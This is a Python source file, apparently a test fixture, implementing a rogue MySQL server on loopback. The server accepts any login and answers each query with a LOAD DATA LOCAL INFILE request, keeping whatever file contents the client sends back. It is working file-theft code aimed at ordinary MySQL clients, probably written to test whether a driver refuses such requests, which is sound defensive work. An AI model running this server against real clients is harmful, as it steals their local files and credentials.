"""A hostile MySQL server on loopback: it accepts any login, then answers each query (but the
driver's own SET statements) with a LOAD DATA LOCAL INFILE request for a file of the client's
machine, and keeps whatever the client sends back. A client that honours the request hands
the server any file it can read."""

from __future__ import annotations

import socket
import struct
import threading

OK = b"\x00\x00\x00\x02\x00\x00\x00"
CAPABILITIES = 0x0001 | 0x0004 | 0x0008 | 0x0080 | 0x0200 | 0x8000 | 0x80000  # LOCAL_FILES
SALT = b"abcdefghijklmnopqrst"


class HostileMySQL:
    def __init__(self, wanted: str) -> None:
        self.wanted = wanted
        self.received: list[bytes] = []  # the contents clients sent for the file
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def close(self) -> None:
        self._socket.close()

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self._socket.accept()
            except OSError:
                return
            threading.Thread(target=self._talk, args=(client,), daemon=True).start()

    def _talk(self, client: socket.socket) -> None:
        try:
            client.sendall(_packet(0, _handshake()))
            _read(client)  # the login
            client.sendall(_packet(2, OK))
            while True:
                _seq, body = _read(client)
                if not body or body[0] == 0x01:  # COM_QUIT
                    return
                if body[0] != 0x03 or body[1:].upper().startswith(b"SET "):
                    client.sendall(_packet(1, OK))
                    continue
                client.sendall(_packet(1, b"\xfb" + self.wanted.encode()))
                self.received.append(self._file(client))
                client.sendall(_packet(4, OK))
        except (EOFError, OSError):
            return
        finally:
            client.close()

    @staticmethod
    def _file(client: socket.socket) -> bytes:
        data = b""
        while True:
            _seq, chunk = _read(client)
            if not chunk:
                return data
            data += chunk


def _handshake() -> bytes:
    return (b"\x0a5.7.99-hostile\x00" + struct.pack("<I", 1) + SALT[:8] + b"\x00"
            + struct.pack("<H", CAPABILITIES & 0xFFFF) + b"\x21" + struct.pack("<H", 2)
            + struct.pack("<H", CAPABILITIES >> 16) + bytes([21]) + b"\x00" * 10 + SALT[8:]
            + b"\x00mysql_native_password\x00")


def _packet(seq: int, payload: bytes) -> bytes:
    return struct.pack("<I", len(payload))[:3] + bytes([seq]) + payload


def _read(client: socket.socket) -> tuple[int, bytes]:
    head = _exactly(client, 4)
    return head[3], _exactly(client, int.from_bytes(head[:3], "little"))


def _exactly(client: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        chunk = client.recv(size - len(data))
        if not chunk:
            raise EOFError
        data += chunk
    return data
